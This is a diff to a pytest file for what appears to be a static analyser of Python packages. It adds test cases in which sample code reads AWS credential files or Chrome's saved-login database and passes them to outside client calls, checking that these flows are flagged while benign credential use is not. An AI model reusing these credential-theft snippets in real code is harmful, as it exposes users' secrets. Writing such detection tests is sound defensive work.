@@ -3,7 +3,7 @@
 import pytest
 from engine_flows import flows, program_of
 
-from ostiary.program.flow import AS_TABLE, AS_TEXT, Act, Taint
+from ostiary.program.flow import AS_PATH, AS_TABLE, AS_TEXT, Act, Taint
 
 HEAD = (
     "import base64, json, os, unheard_of\nALL = dict(os.environ)\nclient = unheard_of.Client('x')\n"
@@ -109,3 +109,59 @@ def test_a_short_file_of_a_long_package_is_looked_at_where_it_takes_anything() -
     )
     files = {"sample/__init__.py": f"{HEAD}unheard_of.tell(str(ALL))", "sample/long.py": long}
     assert [one for one in program_of("wheel", files).flows if one.act is Act.HAND]
+
+
+LOOT = "open(os.path.expanduser('~/.aws/credentials')).read()"
+PLACE = "os.path.expanduser('~/.aws/credentials')"
+HELD = [
+    (f"client.payload = {LOOT}\nclient.go()", AS_TABLE),
+    (f"client['payload'] = {LOOT}", AS_TABLE),
+    (f"unheard_of.settings.extra = {LOOT}", AS_TABLE),
+    (f"class Row(unheard_of.Row):\n    body = {LOOT}\nRow().save()", AS_TEXT),
+    (f"print({LOOT}, file=unheard_of.stream())", AS_TEXT),
+    (f"json.dump({LOOT}, unheard_of.stream())", AS_TEXT),
+    (f"import shutil\nshutil.copyfileobj(open({PLACE}), unheard_of.stream())", AS_TEXT),
+    (
+        (
+            "import sqlite3\npath = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n"
+            "unheard_of.tell(sqlite3.connect(path).execute('select * from logins').fetchall())"
+        ),
+        AS_TEXT,
+    ),
+    (f"client.fput_object('b', 'k', {PLACE})", AS_TABLE),
+    (f"client.add_attachment('A-1', attachment={PLACE})", AS_TABLE),
+    (f"client.SetContentFile({PLACE})", AS_TABLE),
+    (f"unheard_of.process({PLACE})", AS_PATH),
+]
+KEPT = [
+    f"unheard_of.api_key = {LOOT}",
+    f"client.credentials = {LOOT}",
+    "client.settings = dict(os.environ)",
+    f"client.load_profile({PLACE})",
+    f"client.configure(path={PLACE})",
+    f"client.login(key_file={PLACE})",
+    f"class Own:\n    body = {LOOT}\nOwn().save()" + "\n",
+    f"print({LOOT}, file=open('x', 'w'))",
+    f"import configparser\nread = configparser.ConfigParser()\nread.read({PLACE})\nunheard_of.Own(read)",
+    f"def later():\n    client.payload = {LOOT}",
+]
+
+
+@pytest.mark.parametrize(("text", "how"), HELD)
+def test_parts_files_and_paths(text: str, how: str) -> None:
+    assert set(told(text)) == {how}
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_parts_and_paths_of_its_own(text: str) -> None:
+    assert told(text) == []
+
+
+def test_a_service_is_told_a_path() -> None:
+    text = f"import os, wandb\nwandb.save({PLACE})\n"
+    assert [one.name for one in flows(text, Act.SEND, "wheel")] == ["wandb.save"]
+
+
+def test_what_is_read_is_not_written_there() -> None:
+    text = f"import os, unheard_of\nunheard_of.Client().login('a', config_path={PLACE})\n"
+    assert not flows(text, Act.WRITE, "wheel")
